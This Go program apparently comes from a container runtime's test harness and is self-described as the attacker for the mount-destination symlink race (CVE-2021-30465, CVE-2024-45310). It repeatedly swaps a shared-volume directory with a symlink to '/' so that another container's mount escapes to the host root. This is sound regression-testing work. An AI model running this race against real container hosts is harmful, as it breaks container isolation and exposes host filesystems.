// Command swapper is the attacker of the mount-destination race
// (CVE-2021-30465, CVE-2024-45310): run inside a container that shares a
// volume with others, it atomically exchanges a directory and a symlink (to
// -target, "/" by default) in that volume, so that another container's mount
// destination through the directory's name may resolve through the symlink
// instead. It writes its swap count to -done when finished.
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	dir := flag.String("dir", "", "directory to exchange with -link")
	link := flag.String("link", "", "symlink to exchange with -dir")
	target := flag.String("target", "/", "where -link points")
	swaps := flag.Int("n", 1000, "number of exchanges")
	pause := flag.Duration("pause", 5*time.Millisecond, "pause between exchanges, so they span many creates")
	done := flag.String("done", "", "file to write the swap count to when finished")
	ready := flag.String("ready", "", "file to create once the volume is prepared")
	flag.Parse()
	if err := run(*dir, *link, *target, *swaps, *pause, *done, *ready); err != nil {
		fmt.Fprintln(os.Stderr, "swapper:", err)
		os.Exit(1)
	}
}

func run(dir, link, target string, swaps int, pause time.Duration, done, ready string) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	if err := os.Symlink(target, link); err != nil {
		return err
	}
	if err := os.WriteFile(ready, nil, 0o644); err != nil {
		return err
	}
	n := 0
	for ; n < swaps; n++ {
		// RENAME_EXCHANGE keeps both names present at every instant: the
		// victim always finds either the directory or the symlink.
		if err := unix.Renameat2(unix.AT_FDCWD, dir, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE); err != nil {
			return fmt.Errorf("exchange %s and %s: %w", dir, link, err)
		}
		time.Sleep(pause)
	}
	return os.WriteFile(done, []byte(fmt.Sprint(n)), 0o644)
}
